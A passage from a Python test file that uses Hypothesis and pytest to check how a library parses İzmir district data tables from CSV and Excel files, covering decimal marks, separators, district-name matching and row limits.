    st.sampled_from(["Toplam", "İzmir", "Aliğa", "Bornava", "", " ", '"', "Kaynak: TÜİK"]),
    st.text(max_size=10),
)
number_like = st.one_of(
    st.sampled_from(["1.234,5", "27.225", "4,14", "%4,14", "1,234.5", "-", "-3", "0.5", "", "yok"]),
    st.text(alphabet="0123456789.,-−%₺ ", max_size=12),
    st.text(max_size=5),
)


@given(
    rows=st.lists(st.tuples(district_like, number_like, number_like), max_size=12),
    sep=st.sampled_from([";", ",", "\t"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1254", "utf-16"]),
    decimal=st.sampled_from(["auto", ",", "."]),
    allow_negative=st.booleans(),
)
def test_district_like_tables_give_a_table_or_a_data_error(
    scratch: Path,
    rows: list[tuple[str, str, str]],
    sep: str,
    encoding: str,
    decimal: str,
    allow_negative: bool,
) -> None:
    text = "\n".join(sep.join(r) for r in [("İlçe", "v", "w"), *rows]) + "\n"
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        data = text.encode("utf-8")
    path = write(scratch, "table.csv", data)
    table = read_or_data_error(path, column="v", decimal=decimal, allow_negative=allow_negative)
    if table is not None and not allow_negative:
        assert (table.values["value"] >= 0).all()
    assert isinstance(validate_user_file(path, matcher=MATCHER, decimal=decimal), list)


@given(
    values=st.dictionaries(
        st.sampled_from(NAMES),
        st.floats(min_value=0, max_value=1e9, allow_nan=False).map(lambda v: round(v, 2)),
        min_size=1,
    ),
    lang=st.sampled_from(["tr", "en"]),
    decimals=st.integers(0, 3),
    sep=st.sampled_from([";", ",", "\t"]),
    spell=st.sampled_from([str, turkish_upper, ascii_fold]),
)
def test_written_numbers_read_back(
    scratch: Path,
    values: dict[str, float],
    lang: str,
    decimals: int,
    sep: str,
    spell: Callable[[str], str],
) -> None:
    cells = {name: format_number(v, lang, decimals) for name, v in values.items()}  # type: ignore[arg-type]
    body = "".join(f'{spell(name)}{sep}"{cell}"\n' for name, cell in cells.items())
    path = write(scratch, "roundtrip.csv", f"İlçe{sep}Değer\n{body}")
    # An international column with no decimals and no value over 999,999 is ambiguous by
    # nature ("27,225"); the documented rule reads it the Turkish way, so say which it is.
    table = read_user_table(path, column="Değer", decimal="." if lang == "en" else "auto")
    assert_valid(table)
    got = dict(zip(table.values["district"], table.values["value"], strict=True))
    if lang == "en":
        want = {name: float(cells[name].replace(",", "")) for name in values}
    else:
        want = {name: float(cells[name].replace(".", "").replace(",", ".")) for name in values}
    assert got == pytest.approx(want)


excel_cell = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)),
    district_like.filter(lambda t: t.isprintable() and not t.startswith("=")),
    number_like.filter(lambda t: t.isprintable() and not t.startswith("=")),
)


@settings(max_examples=60)
@given(rows=st.lists(st.lists(excel_cell, max_size=4), max_size=8), percent=st.booleans())
def test_any_workbook_gives_a_table_or_a_data_error(
    scratch: Path, rows: list[list[object]], percent: bool
) -> None:
    formats = {"B2": "0.00%"} if percent else {}
    path = make_xlsx(scratch, [["İlçe", "v"], *rows], name="any.xlsx", **formats)
    read_or_data_error(path, column="v")
    assert isinstance(validate_user_file(path, matcher=MATCHER), list)


@given(
    text=st.one_of(st.text(), st.sampled_from(NAMES).flatmap(spellings), st.sampled_from(PCODES))
)
def test_matcher_gives_a_pcode_or_unknown_district(text: str) -> None:
    try:
        pcode = MATCHER.pcode(text)
    except UnknownDistrictError as exc:
        assert isinstance(exc, DataError)
        return
    assert pcode in PCODES


@given(
    name=st.sampled_from(NAMES), spell=st.sampled_from([str, turkish_upper, ascii_fold, str.upper])
)
def test_matcher_accepts_every_spelling_of_every_district(
    name: str, spell: Callable[[str], str]
) -> None:
    assert MATCHER.name(spell(name)) == name


def test_a_custom_matcher(tmp_path: Path) -> None:
    from izmir_maps.text.names import DistrictMatcher

    matcher = DistrictMatcher({"TUR035008": "Buca"})
    path = write(tmp_path, "t.csv", "ilce,v\nBUCA,1\nKonak,2\n")
    with pytest.raises(DataError, match=r"none of the 1 district names \(Buca … Buca\)"):
        read_user_table(path, column="v", matcher=matcher)


def test_values_frame_is_plain_data() -> None:
    table = read_user_table(MESSY / "oran_pcodes.csv", column="oran")
    expected = pd.DataFrame(
        {
            "pcode": PCODES[:2],
            "district": NAMES[:2],
            "value": [7.16, 9.14],
            "row": [2, 3],
        }
    ).astype({"value": "float64", "row": "int64"})
    pd.testing.assert_frame_equal(table.values.head(2), expected, check_dtype=False)


def test_string_path_is_accepted() -> None:
    table = read_user_table(str(MESSY / "osb_tab.txt"), column="OSB Sayısı")
    assert table.path == MESSY / "osb_tab.txt"


@pytest.mark.parametrize(
    ("cells", "expected", "decimal"),
    [
        (["0.500", "12"], [0.5, 12.0], "."),
        (["0,500", "12"], [0.5, 12.0], ","),
        (["0.750", "3.5"], [0.75, 3.5], "."),
    ],
)
def test_a_leading_zero_shows_the_decimal_mark(
    tmp_path: Path, cells: list[str], expected: list[float], decimal: str
) -> None:
    # 0.500 cannot be five hundred written with a thousands dot: it is a half, and no
    # warning about guessing the mark is given.
    rows = "".join(f'{NAMES[i]},"{c}"\n' for i, c in enumerate(cells))
    path = write(tmp_path, "t.csv", "ilce,v\n" + rows)
    table = read_user_table(path, column="v")
    assert table.values.sort_values("row")["value"].tolist() == expected
    assert table.decimal == decimal
    assert table.warnings == [f"{len(NAMES) - 2} {NOTE_MISSING}{', '.join(NAMES[2:])}."]


@pytest.mark.parametrize(
    ("text", "separator", "value"),
    [
        # each line splits into 2 cells at ';' and at ',' alike
        ("il,ce;v\nBuca;1,5\n", ";", 1.5),
        # each line splits into 2 cells at a tab and at ',' alike
        ("il,ce\tv\nBuca\t1,5\n", "\t", 1.5),
    ],
)
def test_separator_ties_go_to_semicolon_then_tab(
    tmp_path: Path, text: str, separator: str, value: float
) -> None:
    path = write(tmp_path, "t.csv", text)
    table = read_user_table(path, column="v")
    assert table.separator == separator
    assert table.values["value"].tolist() == [value]


def test_max_rows_is_the_last_row_allowed(tmp_path: Path) -> None:
    rows = [[NAMES[i], i + 1] for i in range(4)]
    at_limit = write(tmp_path, "t3.csv", "ilce,v\n" + "".join(f"{n},{v}\n" for n, v in rows[:3]))
    assert read_user_table(at_limit, column="v", max_rows=3).values["value"].tolist() == [
        1.0,
        2.0,
        3.0,
    ]
    over = write(tmp_path, "t4.csv", "ilce,v\n" + "".join(f"{n},{v}\n" for n, v in rows))
    with pytest.raises(DataError) as info:
        read_user_table(over, column="v", max_rows=3)
    assert str(info.value) == (
        f"{over}: the file is far larger than a district table: it has 4 rows, the limit is 3 "
        "rows (İzmir has 30 districts, all of Türkiye 973). Check that this is the right file; "
        "if it is, raise the limit with the max_rows option."
    )


def test_max_rows_is_the_last_row_allowed_in_a_workbook(tmp_path: Path) -> None:
    rows = [[NAMES[i], i + 1] for i in range(4)]
    at_limit = make_xlsx(tmp_path, [["ilce", "v"], *rows[:3]], name="t3.xlsx")
    table = read_user_table(at_limit, column="v", max_rows=3)
    assert table.values.sort_values("row")["value"].tolist() == [1.0, 2.0, 3.0]
    over = make_xlsx(tmp_path, [["ilce", "v"], *rows], name="t4.xlsx")
    with pytest.raises(DataError) as info:
        read_user_table(over, column="v", max_rows=3)
    assert str(info.value) == (
        f"{over}, sheet 'Veri': the file is far larger than a district table: it has more than 3 "
        "rows, the limit is 3 rows (İzmir has 30 districts, all of Türkiye 973). Check that this "
        "is the right file; if it is, raise the limit with the max_rows option."
    )
